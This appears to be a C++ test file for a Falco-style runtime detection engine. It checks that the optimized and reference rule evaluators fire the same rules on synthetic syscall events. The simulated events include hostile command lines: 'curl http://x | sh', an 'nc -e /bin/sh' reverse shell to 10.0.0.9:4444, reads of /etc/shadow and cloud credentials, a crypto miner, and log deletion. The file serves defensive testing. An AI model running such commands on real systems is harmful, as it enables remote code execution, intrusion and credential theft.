// The engine's fast form (macros, checks and fields shared within an event,
// the fd described once, cheap checks first) against the reference form
// (EngineOptions::memoize off: every rule evaluated on its own as written),
// over many kinds of events: both must fire exactly the same rules.
#include <fcntl.h>
#include <sys/syscall.h>

#include <map>

#include <gtest/gtest.h>

#include "rules/engine/engine.h"
#include "rules/fields/event_memo.h"
#include "rules/ruleset/rule_loader.h"
#include "support/event_world.h"

namespace palisade::rules {
namespace {

using test::RecordBuilder;
using test::World;

const std::string kCorpus = PALISADE_CORPUS_DIR "/falco-rules/";

struct Engines {
    std::unique_ptr<RuleEngine> fast, reference;
    std::string errors;
};

Engines build(const std::vector<std::string>& files, const std::string& yaml = {})
{
    RuleLoader loader;
    for (const auto& f : files)
        loader.load_file(f);
    if (!yaml.empty())
        loader.load_string("tricky.yaml", yaml);
    const RuleSet set = loader.finish();
    std::vector<Diagnostic> diagnostics = set.diagnostics;
    Engines e;
    e.fast = RuleEngine::build(set, &diagnostics);
    e.reference = RuleEngine::build(set, &diagnostics, EngineOptions{.memoize = false});
    for (const auto& d : diagnostics)
        if (d.severity == Diagnostic::Severity::Error)
            e.errors += d.render() + "\n";
    return e;
}

// Events of every kind the sensor reports, in shapes the rules care about:
// failed calls, sockets of each family and role, processes missing from the
// cache (every proc.* field <NA>), shells under servers, containers' paths.
class EventMaker {
public:
    World world;
    std::vector<Event> events;

    EventMaker()
    {
        add(world.exec(300, 200, "/usr/bin/python3", {"python3", "/srv/app.py"}));
        add(world.exec(301, 1, "/usr/sbin/nginx", {"nginx", "-g", "daemon off;"}));
        add(world.exec(302, 301, "/bin/sh", {"sh", "-c", "curl http://x | sh"}));
        add(world.exec(303, 302, "/usr/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.9", "4444"}));
        add(world.exec(304, 200, "/usr/bin/sudo", {"sudo", "su"}));
        add(world.exec(305, 200, "/usr/bin/cat", {"cat", "/etc/shadow"}));
        add(world.exec(306, 100, "/usr/bin/bash", {"bash", "-i"}));
        add(world.exec(307, 200, "/tmp/xmrig", {"xmrig", "--url", "stratum+tcp://pool"}));
        add(world.exec(308, 200, "/dev/shm/run", {"run"}));
        add(world.exec(309, 301, "/usr/bin/curl", {"curl", "169.254.169.254"}));
        add(world.exec(310, 200, "/memfd:payload", {"payload"}, PL_EXEC_MEMFD | PL_EXEC_DELETED));
        add(world.exec(311, 200, "/usr/bin/find", {"find", "/", "-perm", "-4000"}));
        add(world.exec(312, 200, "/usr/bin/base64", {"base64", "-d"}));
        add(world.exec(313, 200, "/usr/bin/chmod", {"chmod", "+s", "/tmp/x"}));
        add(world.exec(314, 200, "/usr/bin/kubectl", {"kubectl", "exec", "-it", "pod"}));
        add(world.exec(315, 200, "/usr/bin/apt-get", {"apt-get", "install", "x"}));
        add(world.exec(316, 200, "/usr/bin/ls", {}));
        pids_ = {1, 100, 200, 300, 301, 302, 303, 304, 305, 306, 307, 308, 309, 310, 311, 312, 313, 314, 315,
                 316, 9999 /* not in the cache */};

        const char* paths[] = {"/etc/shadow", "/etc/sudoers", "/etc/sudoers.d/x", "/etc/pam.d/sshd",
                               "/etc/ld.so.preload", "/etc/hosts", "/root/.ssh/authorized_keys",
                               "/home/u/.bash_history", "/root/.aws/credentials", "/proc/self/environ",
                               "/proc/1/mem", "/dev/mem", "/bin/ls", "/usr/bin/evil", "/sbin/x", "/tmp/x",
                               "/dev/shm/x", "/var/log/syslog", "/etc/cron.d/job", "/boot/vmlinuz",
                               "/sys/kernel/debug/x", "/var/run/docker.sock", "/etc/kubernetes/admin.conf",
                               "/lib/modules/x.ko", "/var/lib/rpm/x", "/", "relative/file", "/etc/"};
        const std::uint32_t flags[] = {O_RDONLY, O_WRONLY | O_CREAT, O_RDWR, O_RDONLY | O_DIRECTORY,
                                       O_WRONLY | O_TRUNC, O_TMPFILE | O_RDWR};
        for (std::uint32_t pid : pids_)
            for (std::size_t p = 0; p < std::size(paths); ++p) {
                const auto f = flags[(p + pid) % std::size(flags)];
                add(world.open(pid, paths[p], f));
                if (p % 5 == 0)
                    add(world.open(pid, paths[p], f, -13 /* EACCES */));
            }

        const std::uint8_t v4[][4] = {{10, 0, 0, 7},   {93, 184, 216, 34}, {169, 254, 169, 254}, {127, 0, 0, 1},
                                      {192, 168, 1, 1}, {0, 0, 0, 0},       {100, 100, 100, 200}};
        const std::uint16_t ports[] = {80, 443, 22, 4444, 6667, 3333, 53, 0};
        for (std::uint32_t pid : pids_)
            for (std::size_t i = 0; i < std::size(v4); ++i) {
                add(world.connect(pid, v4[i], ports[(i + pid) % std::size(ports)]));
                add(net(pid, SYS_connect, PL_NET_CONNECT, AF_INET, v4[i], ports[i % std::size(ports)], -111));
                add(net(pid, SYS_sendto, PL_NET_SENDTO, AF_INET, v4[i], 53, 10, SOCK_DGRAM, IPPROTO_UDP));
                add(net(pid, SYS_accept4, PL_NET_ACCEPT, AF_INET, v4[i], ports[i % std::size(ports)], 5));
                add(net(pid, SYS_dup2, PL_NET_DUP, AF_INET, v4[i], 4444, 1));
            }
        const std::uint8_t none[4] = {};
        for (std::uint32_t pid : {200u, 301u, 303u, 9999u}) {
            add(net(pid, SYS_bind, PL_NET_BIND, AF_INET, none, 8080, 0));
            add(net(pid, SYS_listen, PL_NET_LISTEN, AF_INET, none, 8080, 0));
            add(net(pid, SYS_socket, PL_NET_SOCKET, AF_INET, none, 0, 3, SOCK_RAW, IPPROTO_RAW));
            add(net(pid, SYS_socket, PL_NET_SOCKET, AF_PACKET, none, 0, 3, SOCK_RAW, 0));
            add(net(pid, SYS_socket, PL_NET_SOCKET, AF_INET, none, 0, -1, SOCK_STREAM, IPPROTO_TCP));
            add(net6(pid, 443));
            add(unix_connect(pid, "/var/run/docker.sock"));
            add(unix_connect(pid, "@abstract"));
        }
        for (std::uint32_t pid : {200u, 302u, 305u, 9999u}) {
            add(file_op(pid, SYS_unlinkat, 0, "/var/log/auth.log", ""));
            add(file_op(pid, SYS_unlinkat, 0, "/root/.bash_history", ""));
            add(file_op(pid, SYS_renameat2, 0, "/tmp/a", "/bin/ls"));
            add(file_op(pid, SYS_symlinkat, 0, "/etc/shadow", "/tmp/link"));
            add(file_op(pid, SYS_linkat, 0, "/etc/shadow", "/tmp/hard"));
            add(file_op(pid, SYS_mkdirat, 0, "/tmp/.hidden", ""));
            add(file_op(pid, SYS_fchmodat, 0, "/tmp/x", "", 04755));
            add(file_op(pid, SYS_chmod, -1, "/usr/bin/evil", "", 06777));
            add(file_op(pid, SYS_memfd_create, 4, "", "payload"));
            add(syscall(pid, SYS_setuid, 0, {0}));
            add(syscall(pid, SYS_ptrace, 0, {16 /* PTRACE_ATTACH */, 1}));
            add(syscall(pid, SYS_ptrace, 0, {0 /* PTRACE_TRACEME */}));
            add(syscall(pid, SYS_unshare, 0, {0x10000000}));
            add(syscall(pid, SYS_setns, 0, {3, 0}));
            add(syscall(pid, SYS_mount, -1, {0}, "/mnt"));
            add(syscall(pid, SYS_finit_module, 0, {5}, "evil", "/tmp/evil.ko"));
            add(syscall(pid, SYS_prctl, 0, {15 /* PR_SET_NAME */}, "kworker"));
            add(syscall(pid, SYS_kill, 0, {1, 9}));
            add(syscall(pid, SYS_bpf, 3, {5}));
        }
    }

private:
    void add(const Event& ev) { events.push_back(ev); }

    Event feed(const std::vector<std::uint8_t>& record)
    {
        auto ev = decode_record(record);
        EXPECT_TRUE(ev.has_value());
        if (!ev)
            return Event{};
        world.cache.apply(*ev);
        return *ev;
    }

    Event net(std::uint32_t pid, std::uint32_t nr, std::uint16_t op, std::uint16_t family, const std::uint8_t (&ip)[4],
              std::uint16_t port, std::int64_t ret, std::uint16_t type = SOCK_STREAM,
              std::uint16_t protocol = IPPROTO_TCP)
    {
        RecordBuilder<pl_net_event> b(PL_EV_NET);
        b.fixed.hdr.tgid = b.fixed.hdr.tid = pid;
        b.fixed.syscall_nr = nr;
        b.fixed.op = op;
        b.fixed.family = family;
        b.fixed.sock_type = type;
        b.fixed.protocol = protocol;
        b.fixed.fd = 3;
        b.fixed.ret = ret;
        std::memcpy(b.fixed.remote_addr, ip, 4);
        b.fixed.remote_port = port;
        b.fixed.local_addr[0] = 10, b.fixed.local_addr[3] = 5;
        b.fixed.local_port = 40000;
        return feed(b.bytes());
    }
    Event net6(std::uint32_t pid, std::uint16_t port)
    {
        RecordBuilder<pl_net_event> b(PL_EV_NET);
        b.fixed.hdr.tgid = b.fixed.hdr.tid = pid;
        b.fixed.syscall_nr = SYS_connect;
        b.fixed.op = PL_NET_CONNECT;
        b.fixed.family = AF_INET6;
        b.fixed.sock_type = SOCK_STREAM;
        b.fixed.protocol = IPPROTO_TCP;
        b.fixed.fd = 3;
        b.fixed.remote_addr[0] = 0x20, b.fixed.remote_addr[1] = 0x01, b.fixed.remote_addr[15] = 1;
        b.fixed.remote_port = port;
        b.fixed.local_addr[15] = 1;
        b.fixed.local_port = 50000;
        return feed(b.bytes());
    }
    Event unix_connect(std::uint32_t pid, const std::string& path)
    {
        RecordBuilder<pl_net_event> b(PL_EV_NET);
        b.fixed.hdr.tgid = b.fixed.hdr.tid = pid;
        b.fixed.syscall_nr = SYS_connect;
        b.fixed.op = PL_NET_CONNECT;
        b.fixed.family = AF_UNIX;
        b.fixed.sock_type = SOCK_STREAM;
        b.fixed.fd = 3;
        b.fixed.unix_path_len = b.tail(path);
        return feed(b.bytes());
    }
    Event file_op(std::uint32_t pid, std::uint32_t nr, std::int64_t ret, const std::string& path,
                  const std::string& path2, std::uint32_t mode = 0)
    {
        RecordBuilder<pl_file_op_event> b(PL_EV_FILE_OP);
        b.fixed.hdr.tgid = b.fixed.hdr.tid = pid;
        b.fixed.syscall_nr = nr;
        b.fixed.ret = ret;
        b.fixed.fd = -1;
        b.fixed.mode = mode;
        b.fixed.path_len = b.tail(path);
        b.fixed.path2_len = b.tail(path2);
        return feed(b.bytes());
    }
    Event syscall(std::uint32_t pid, std::uint32_t nr, std::int64_t ret, std::vector<std::uint64_t> args,
                  const std::string& str = {}, const std::string& str2 = {})
    {
        RecordBuilder<pl_syscall_event> b(PL_EV_SYSCALL);
        b.fixed.hdr.tgid = b.fixed.hdr.tid = pid;
        b.fixed.syscall_nr = nr;
        b.fixed.ret = ret;
        for (std::size_t i = 0; i < args.size() && i < 6; ++i)
            b.fixed.args[i] = args[i];
        b.fixed.str_len = b.tail(str);
        b.fixed.str2_len = b.tail(str2);
        return feed(b.bytes());
    }

    std::vector<std::uint32_t> pids_;
};

std::vector<std::string> fired_names(RuleEngine& engine, World& world, const Event& ev)
{
    std::vector<CompiledRule*> matched;
    engine.match({ev, world.cache, world.cache.find_pid(ev.tgid)}, matched);
    std::vector<std::string> names;
    for (auto* r : matched)
        names.push_back(r->name);
    return names;
}

// Runs every event through both engines, twice over (the second pass finds
// the shared slots filled by the previous event); returns how often each rule fired.
std::map<std::string, int> expect_same_alerts(Engines& e, EventMaker& maker)
{
    std::map<std::string, int> fired_count;
    for (int pass = 0; pass < 2; ++pass)
        for (std::size_t i = 0; i < maker.events.size(); ++i) {
            const Event& ev = maker.events[i];
            const auto fast = fired_names(*e.fast, maker.world, ev);
            const auto reference = fired_names(*e.reference, maker.world, ev);
            EXPECT_EQ(fast, reference) << "event " << i << " (" << falco_event_type(ev) << ", pid " << ev.tgid
                                       << ")";
            if (pass == 0)
                for (const auto& name : fast)
                    ++fired_count[name];
        }
    return fired_count;
}

TEST(EngineEquivalence, OfficialRulesFireTheSameWithAndWithoutSharing)
{
    auto e = build({kCorpus + "falco_rules.yaml", kCorpus + "falco-incubating_rules.yaml",
                    kCorpus + "falco-sandbox_rules.yaml"});
    EventMaker maker;
    ASSERT_GT(maker.events.size(), 1000u);
    const auto fired_count = expect_same_alerts(e, maker);
    // Not a vacuous comparison: the events make many different rules fire.
    EXPECT_GE(fired_count.size(), 15u);
}

// Conditions whose result hangs on <NA>, `not`, exceptions, lists of
// fields, val(), transformers and the either-end fd fields.
const char* kTrickyRules = R"(
- list: shells
  items: [bash, sh, zsh]
- list: nets
  items: ["10.0.0.0/8", "169.254.0.0/16"]
- macro: spawned
  condition: evt.type = execve
- macro: opened
  condition: evt.type in (open, openat, openat2)
- rule: na negated
  desc: a field without a value fails every check, so `not` of it holds
  condition: opened and not proc.name = bash and not proc.pname in (shells)
  output: "%proc.name %fd.name"
  priority: INFO
- rule: na exists
  desc: d
  condition: (opened or evt.type = connect) and not proc.exepath exists
  output: o
  priority: INFO
- rule: ancestors
  desc: proc.aname without index matches any ancestor
  condition: (spawned or opened) and proc.aname in (sshd) and proc.aname[2] != init and proc.aname != nginx
  output: o
  priority: INFO
- rule: list field in
  desc: in on a list field needs every value in the set
  condition: spawned and proc.args in ("-c", "curl http://x | sh", "-i")
  output: o
  priority: INFO
- rule: list field intersects
  desc: d
  condition: spawned and proc.args intersects ("-e", "-perm") and proc.cmdline contains " "
  output: o
  priority: INFO
- rule: either end
  desc: fd.ip != x holds only when neither end is x
  condition: evt.type in (connect, accept4, sendto) and fd.ip != 10.0.0.5 and fd.net in (nets) and fd.port != 443
  output: o
  priority: INFO
- rule: either end equal
  desc: d
  condition: evt.type in (connect, accept, accept4) and (fd.ip = 10.0.0.5 or fd.sport in (80, 443)) and fd.l4proto = tcp
  output: o
  priority: INFO
- rule: transformers
  desc: d
  condition: opened and (toupper(fd.name) startswith /ETC or len(fd.name) > 20 or basename(fd.name) = x) and tolower(proc.name) != BASH
  output: o
  priority: INFO
- rule: values of two fields
  desc: d
  condition: (opened or spawned) and (proc.name = val(proc.pname) or fd.directory = val(proc.cwd) or proc.exepath = val(proc.exe))
  output: o
  priority: INFO
- rule: exceptions
  desc: d
  condition: opened and fd.name pmatch (/etc, /root) and evt.is_open_write = true
  output: o
  priority: INFO
  exceptions:
    - name: by_proc
      fields: [proc.name, fd.directory]
      comps: [=, in]
      values: [[python3, [/etc/sudoers.d, /etc/pam.d]], [bash, [/etc]]]
    - name: by_parent
      fields: [proc.pname]
      comps: [in]
      values: [[[nginx, sh]]]
- rule: operators
  desc: d
  condition: >
    (opened and (fd.name glob "/etc/*" or fd.name iglob "*SHADOW*" or fd.name regex ".*/\\.[a-z_]+" or
     fd.name icontains "SSH" or fd.name endswith ".ko" or fd.filename bcontains 6d656d))
    or (evt.type in (connect, sendto) and (fd.sip = 169.254.169.254 or fd.rport >= 4000 or fd.rip.name exists))
  output: o
  priority: INFO
- rule: same check many places
  desc: d
  condition: (opened and fd.typechar = f and proc.name in (shells)) or (opened and fd.typechar = d) or (spawned and proc.name in (shells))
  output: o
  priority: INFO
- rule: any type
  desc: evaluated on every event
  condition: proc.name = nc or (fd.num < 0 and not fd.num exists) or evt.res != SUCCESS
  output: o
  priority: INFO
  warn_evttypes: false
)";

TEST(EngineEquivalence, TrickySemanticsFireTheSameWithAndWithoutSharing)
{
    auto e = build({}, kTrickyRules);
    ASSERT_EQ(e.errors, "");
    ASSERT_EQ(e.fast->rules().size(), 13u);
    EventMaker maker;
    const auto fired_count = expect_same_alerts(e, maker);
    EXPECT_GE(fired_count.size(), 10u);
    for (const auto& [rule, count] : fired_count)
        EXPECT_LT(count, static_cast<int>(maker.events.size())) << rule << " fires on every event";
}

// The fd fields read the event's fd from the engine's memo; without one they
// describe it themselves. Both give the same values.
TEST(EngineEquivalence, FdFieldsReadTheSameThroughTheMemo)
{
    EventMaker maker;
    std::vector<std::string> names;
    for (const auto& info : FieldCatalog::instance().fields())
        if (info.name.rfind("fd.", 0) == 0 && !info.arg_required)
            names.push_back(info.name);
    ASSERT_GT(names.size(), 20u);
    fields::EventMemo memo;
    for (const Event& ev : maker.events) {
        memo.reset();
        const EvalContext plain{ev, maker.world.cache, maker.world.cache.find_pid(ev.tgid)};
        const EvalContext memoized{ev, maker.world.cache, plain.process, &memo};
        for (const auto& name : names) {
            auto a = FieldCatalog::instance().bind(name, {}, nullptr);
            auto b = FieldCatalog::instance().bind(name, {}, nullptr);
            std::vector<FieldValue> va, vb;
            ASSERT_EQ(a->extract(plain, va), b->extract(memoized, vb)) << name;
            ASSERT_EQ(va.size(), vb.size()) << name;
            for (std::size_t i = 0; i < va.size(); ++i) {
                EXPECT_EQ(va[i].str, vb[i].str) << name;
                EXPECT_EQ(va[i].i, vb[i].i) << name;
                EXPECT_EQ(va[i].u, vb[i].u) << name;
                EXPECT_EQ(va[i].b, vb[i].b) << name;
                EXPECT_EQ(0, std::memcmp(va[i].ip, vb[i].ip, 16)) << name;
            }
        }
    }
}

}  // namespace
}  // namespace palisade::rules

namespace palisade::rules {
namespace {

// Macros that use the one before twice: as a tree each is compiled once,
// but copied into every place of use its code doubles with each level. Past
// a size limit the engine walks the trees for that event type instead.
std::string doubling_macros(int levels)
{
    std::string yaml = "- macro: m0\n  condition: proc.name = bash\n";
    for (int k = 1; k <= levels; ++k)
        yaml += "- macro: m" + std::to_string(k) + "\n  condition: m" + std::to_string(k - 1) +
                " or (fd.num < 0 and m" + std::to_string(k - 1) + ")\n";
    return yaml + "- rule: deep\n  desc: d\n  condition: evt.type in (openat, connect) and m" +
           std::to_string(levels) + "\n  output: o\n  priority: INFO\n";
}

// The tree walk taken past the limit fires what the reference does.
TEST(EngineEquivalence, RulesTooLargeToLowerAreWalkedAsTrees)
{
    RuleLoader loader;
    loader.load_string("deep.yaml", doubling_macros(8));
    const RuleSet set = loader.finish();
    std::vector<Diagnostic> diagnostics;
    Engines e;
    e.fast = RuleEngine::build(set, &diagnostics, EngineOptions{.max_program_instructions = 50});
    e.reference = RuleEngine::build(set, &diagnostics, EngineOptions{.memoize = false});
    ASSERT_TRUE(diagnostics.empty());
    EventMaker maker;
    const auto fired_count = expect_same_alerts(e, maker);
    EXPECT_GT(fired_count.count("deep") ? fired_count.at("deep") : 0, 0);
}

// With the default limit, 16 levels (2^16 copies) are refused quickly and
// still fire exactly on bash's opens and connects.
TEST(EngineEquivalence, DoublingMacrosStayBounded)
{
    RuleLoader loader;
    loader.load_string("deep.yaml", doubling_macros(16));
    const RuleSet set = loader.finish();
    std::vector<Diagnostic> diagnostics;
    auto engine = RuleEngine::build(set, &diagnostics);
    ASSERT_TRUE(diagnostics.empty());
    EventMaker maker;
    int fired = 0;
    for (const Event& ev : maker.events) {
        const auto type = falco_event_type(ev);
        const Process* process = maker.world.cache.find_pid(ev.tgid);
        const bool expected = (type == "openat" || type == "connect") && process && process->comm == "bash";
        const auto names = fired_names(*engine, maker.world, ev);
        EXPECT_EQ(!names.empty(), expected) << type << " pid " << ev.tgid;
        fired += !names.empty();
    }
    EXPECT_GT(fired, 0);
}

}  // namespace
}  // namespace palisade::rules
